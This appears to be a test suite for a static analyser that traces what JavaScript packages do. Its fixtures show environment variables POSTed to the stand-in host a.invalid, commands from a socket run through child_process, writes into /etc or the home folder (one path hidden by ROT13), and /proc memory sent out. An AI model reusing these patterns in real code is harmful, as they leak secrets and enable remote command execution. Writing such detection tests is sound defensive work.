import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf, flowLines, lineOf } from '../../test/behave.ts';

type Files = Readonly<Record<string, string>>;

const POST = `fetch('https://a.invalid', { method: 'POST', body: b })`;
const SENT = 'process.env → fetch as content';

const lines = (files: Files): string[] => behaviourOf(files).effects.map(lineOf);
const written = (files: Files): string | undefined => behaviourOf(files).effects.find(one => one.kind === 'writes file')?.target;

/** How functions of another file are called without being named. */
const TABLES: readonly (readonly [string, Files])[] = [
  [
    'a table is gone through by its values',
    {
      'index.js': `const { steps } = require('./s'); for (const step of Object.values(steps)) step(process.env)`,
      's.js': `exports.steps = { a: () => 1, send: b => ${POST} }`,
    },
  ],
  [
    'by its entries',
    {
      'index.js': `const { steps } = require('./s'); for (const [name, step] of Object.entries(steps)) step(process.env)`,
      's.js': `exports.steps = { a: () => 1, send: b => ${POST} }`,
    },
  ],
  [
    'by a visitor',
    {
      'index.js': `const { steps } = require('./s'); Object.entries(steps).map(([name, step]) => step(process.env))`,
      's.js': `exports.steps = { send: b => ${POST} }`,
    },
  ],
  [
    'a list, by a method of its rows',
    {
      'index.js': `import { sinks } from './s.js'; for (const sink of sinks) sink.send(process.env)`,
      's.js': `export const sinks = [{ name: 'a', send: b => ${POST} }]`,
    },
  ],
  [
    'what a table gives is sent',
    {
      'index.js': `const { collectors } = require('./s'); const b = {}; for (const [key, collect] of Object.entries(collectors)) b[key] = collect(); ${POST}`,
      's.js': `exports.collectors = { all: () => process.env }`,
    },
  ],
  [
    'an object that another file makes is gone through',
    {
      'index.js': `import { Found } from './s.js'; for await (const b of new Found()) ${POST}`,
      's.js': `export class Found { async *[Symbol.asyncIterator]() { yield process.env } }`,
    },
  ],
  [
    'what a container gives has a method that only one class has',
    {
      'index.js': `const { Container } = require('./c'); const box = new Container().register('s', c => new (require('./s').Sender)()); box.get('s').deliver(process.env)`,
      'c.js': `exports.Container = class { constructor() { this.made = new Map() } register(key, make) { this.made.set(key, make); return this } get(key) { return this.made.get(key)(this) } }`,
      's.js': `exports.Sender = class { deliver(b) { ${POST} } }`,
    },
  ],
];

describe('functions of another file', () => {
  for (const [how, files] of TABLES)
    it(`are called where ${how}`, () => {
      assert.ok(flowLines(files).includes(SENT), flowLines(files).join('\n'));
      assert.ok(
        lines(files).some(line => line.startsWith('import connects fetch')),
        lines(files).join('\n'),
      );
    });

  it('are not called where a table is only counted', () =>
    assert.ok(
      lines({
        'index.js': `const { steps } = require('./s'); console.log(Object.keys(steps).length)`,
        's.js': `exports.steps = { send: b => ${POST} }`,
      }).every(line => line.startsWith('call ')),
    ));

  it('are not guessed by a name that many things have', () => {
    const files = {
      'index.js': `const { make } = require('./c'); make().get('s').send(process.env)`,
      'c.js': `exports.make = () => globalThis.inert`,
      's.js': `exports.Sender = class { send(b) { ${POST} } }`,
    };
    assert.deepEqual(flowLines(files), []);
  });
});

/** What is written to where other files tell parts of the path. */
const PATHS: readonly (readonly [string, Files, string])[] = [
  [
    'two settings of another file',
    {
      'index.js': `const { join } = require('path'); const { folder, name } = require('./s'); require('fs').writeFileSync(join(folder, 'x', name), '')`,
      's.js': `exports.folder = require('os').homedir(); exports.name = 'y'`,
    },
    '<home>/x/y',
  ],
  [
    'rows of lists that are spread out',
    {
      'index.js': `import { join } from 'path'; import { rows } from './s.js'; for (const row of rows) require('fs').writeFileSync(join(require('os').homedir(), ...row.path), '')`,
      's.js': `export const rows = [{ path: ['.a', 'b'] }, { path: ['.c'] }]`,
    },
    '<home>/.a/b | <home>/.c',
  ],
  [
    'the options that an object is made with',
    {
      'index.js': `const { W } = require('./w'); new W(require('./o')).go()`,
      'o.js': `module.exports = { every: 5, folder: '/etc', name: 'x' }`,
      'w.js': `exports.W = class { constructor(options) { this.options = options } go() { const { folder, name } = this.options; require('fs').writeFileSync(folder + '/' + name, '') } }`,
    },
    '/etc/x',
  ],
  [
    'what a generator yields',
    {
      'index.js': `import c from './c.mjs'; import { join } from 'path'; for (const folder of c.folders()) require('fs').writeFileSync(join(folder, c.name), '')`,
      'c.mjs': `import { win32 } from 'node:path'; import { homedir } from 'os'; export default { name: 'x', *folders() { yield win32.join(homedir(), 'a'); yield '/opt/b' } }`,
    },
    '<home>/a/x | /opt/b/x',
  ],
  [
    'what an async function gives that TypeScript has compiled',
    {
      'index.js': `var wait = function (self, args, P, generator) { return new Promise(function (resolve) { resolve(generator.apply(self, args)) }) };
        const entry = () => wait(this, void 0, void 0, function* () { yield 1; return '/etc/' + 'x'; });
        wait(this, void 0, void 0, function* () { const file = yield entry(); require('fs').writeFileSync(file, '') })`,
    },
    '/etc/x',
  ],
  [
    'rows of a list that a function of another file is called with',
    {
      'index.js': `const { join } = require('path'); const rows = [{ file: join('/etc', 'a') }, { file: join('/etc', 'b') }]; rows.map(row => require('./w')(row.file))`,
      'w.js': `module.exports = file => require('fs').writeFileSync(file, '')`,
    },
    '/etc/a | /etc/b',
  ],
  [
    'the name that a folder is asked for by',
    {
      'index.js': `const path = require('path'); const up = dir => { const p = path.dirname(dir); return path.basename(p) === 'node_modules' ? p : p === dir ? null : up(p) }; require('fs').writeFileSync(path.join(up(__dirname), 'x', 'y.js'), '')`,
    },
    '*/node_modules/x/y.js',
  ],
  [
    'letters that a function of the file turns round, of each of a list',
    {
      'index.js': `const rot = s => s.replace(/[a-z]/g, c => String.fromCharCode((c.charCodeAt(0) - 97 + 13) % 26 + 97)); const parts = ['rgp', 'k'].map(s => rot(s).trim()); require('fs').writeFileSync('/' + parts.join('/'), '')`,
    },
    '/etc/x',
  ],
  [
    'the one file of that name below the home folder that is read beside it',
    {
      'index.js': `const s = require('./s'); const home = require('os').homedir(); s.load(home + '/.a/x.json').then(d => globalThis.__inert(x => s.save(x + '/x.json', d)))`,
      's.js': `const fs = require('fs/promises'); exports.load = f => fs.readFile(f, 'utf8'); exports.save = (f, d) => fs.writeFile(f, d)`,
    },
    '<home>/.a/x.json',
  ],
];

describe('a path', () => {
  for (const [how, files, expected] of PATHS) it(`is told by ${how}`, () => assert.equal(written(files), expected));

  it('is not told by a file of another name that is read beside it', () =>
    assert.equal(
      written({
        'index.js': `const fs = require('fs'); fs.readFileSync(require('os').homedir() + '/.a/y.json', 'utf8'); globalThis.__inert(x => fs.writeFileSync(x + '/x.json', ''))`,
      }),
      '*/x.json',
    ));

  it('is not what an answer was asked for with', () =>
    assert.equal(
      behaviourOf({
        'index.js': `require('./s')(require('./o').url)`,
        'o.js': `exports.url = 'wss://a.invalid'`,
        's.js': `const { io } = require('socket.io-client'); module.exports = url => { const s = io(url); s.on('x', text => require('child_process').exec(text)) }`,
      }).effects.find(one => one.kind === 'spawns')?.target,
      '',
    ));
});

describe('data', () => {
  it('that is read into bytes comes from what they are read of', () => {
    const code = `const fs = require('fs'); const fd = fs.openSync('/proc/1/mem', 'r'); const bytes = Buffer.alloc(9); fs.readSync(fd, bytes, 0, 9, 0); const b = bytes.toString(); ${POST}`;
    assert.deepEqual(flowLines({ 'index.js': code }), ['fs.openSync → fetch as content']);
  });

  it('of bytes that nothing is read into comes from nowhere', () => {
    const code = `const fs = require('fs'); const fd = fs.openSync('/proc/1/mem', 'r'); const b = Buffer.alloc(9); ${POST}`;
    assert.deepEqual(flowLines({ 'index.js': code }), []);
  });

  it('is followed through what is assigned to a member', () =>
    assert.deepEqual(
      flowLines({
        'index.js': `class A { constructor() { this.all = {} } add(more) { Object.assign(this.all, more) } go() { const b = JSON.stringify(this.all); ${POST} } } const a = new A(); a.add({ e: process.env }); a.go()`,
      }),
      [SENT],
    ));

  it('is followed through what is taken out of this', () =>
    assert.deepEqual(
      flowLines({
        'index.js': `class A { constructor(b) { this.b = b } go() { const { b } = this; ${POST} } } new A(process.env).go()`,
      }),
      [SENT],
    ));
});

/** How something is kept under a text, and asked for by it. */
const KEPT: readonly (readonly [string, string])[] = [
  ['a container makes it', `const c = require('x')(); c.register('run', () => require('child_process').execSync); c.get('run')('id')`],
  [
    'a container hands what makes another the way to ask for it',
    `const c = require('x')(); c.register('run', () => require('child_process').execSync); c.register('go', get => get('run')('id')); c.resolve('go')`,
  ],
  ['a table keeps it', `const t = new Map(); t.set('run', require('child_process').execSync); t.get('run')('id')`],
];

it('a loader of modules that another file gives is no method of an object that has one of that name', () => {
  const files = {
    'index.js': `const { loader } = require('./l'); loader().require(process.env); require('./s')`,
    'l.js': `exports.loader = () => globalThis.specimenLoader`,
    's.js': `exports.system = { require(b) { ${POST} } }`,
  };
  assert.ok(
    lines(files).some(line => line.startsWith('call connects fetch')),
    lines(files).join('\n'),
  );
  assert.deepEqual(flowLines(files), []);
});

describe('what is kept under a text', () => {
  for (const [how, code] of KEPT)
    it(`is what is asked for by it: ${how}`, () =>
      assert.ok(lines({ 'index.js': code }).some(line => line.startsWith('import spawns child_process.execSync(id)'))));

  it('is not known where two things are kept under it', () => {
    const code = `const a = new Map(), b = new Map(); a.set('run', require('child_process').execSync); b.set('run', x => x); b.get('run')('id')`;
    assert.ok(lines({ 'index.js': code }).every(line => !line.includes('(id)')));
  });

  it('is handed to another file as what it is', () => {
    const files = {
      'index.js': `const c = require('x')(); c.register('fs', () => require('fs')); new (require('./w').W)(c.get('fs')).go()`,
      'w.js': `exports.W = class { constructor(fs) { Object.assign(this, { fs }) } go() { this.fs.writeFileSync('/etc/x', '') } }`,
    };
    assert.equal(written(files), '/etc/x');
  });
});

/** How the functions of a list or a table of the file itself are called in turn. */
const LISTED: readonly (readonly [string, string])[] = [
  [
    'a table by its entries',
    `const t = { x: () => 1, all: () => process.env }; const b = {}; for (const [k, f] of Object.entries(t)) b[k] = f(); ${POST}`,
  ],
  ['a table by its values', `const t = { x: () => 1, all: () => process.env }; const b = Object.values(t).map(f => f()); ${POST}`],
  ['a list', `const t = [() => 1, () => process.env]; const b = []; for (const f of t) b.push(f()); ${POST}`],
  [
    'a list, by a method of its rows',
    `const t = [{ f() { return 1 } }, { f: () => process.env }]; const b = []; for (const row of t) b.push(row.f()); ${POST}`,
  ],
  [
    'a list that is spread into another',
    `const own = [() => process.env]; const t = [() => 1, ...own]; const b = []; t.forEach(f => b.push(f())); ${POST}`,
  ],
];

describe('what the functions of a list or table give', () => {
  for (const [how, code] of LISTED)
    it(`is known where they are called in turn: ${how}`, () => assert.ok(flowLines({ 'index.js': code }).includes(SENT)));

  it('is not what another method of its rows gives', () =>
    assert.deepEqual(
      flowLines({
        'index.js': `const t = [{ f() { return 1 }, g: () => process.env }]; const b = []; for (const row of t) b.push(row.f()); ${POST}`,
      }),
      [],
    ));
});

/** What a bundle of esbuild makes of two files, minified. */
const BUNDLED = `var u=(e,t)=>()=>{try{return t||e((t={exports:{}}).exports,t),t.exports}catch(r){throw t=0,r}};`;

describe('what a module of a bundle hands to a callback', () => {
  it('has the methods that it was made with', () => {
    const code = `${BUNDLED} var l=u(d=>{class S{set(b){${POST}}}d.start=(e,t)=>t(new S(e))});var s=l();s.start('w',c=>{c.set(process.env)})`;
    assert.ok(flowLines({ 'index.js': code }).includes(SENT), flowLines({ 'index.js': code }).join('\n'));
  });

  it('is not what another callback is handed', () => {
    const code = `${BUNDLED} var l=u(d=>{class S{set(b){${POST}}}d.start=(e,t)=>t(new S(e));d.other=(e,t)=>t({set(){}})});var s=l();s.other('w',c=>{c.set(process.env)})`;
    assert.deepEqual(flowLines({ 'index.js': code }), []);
  });
});
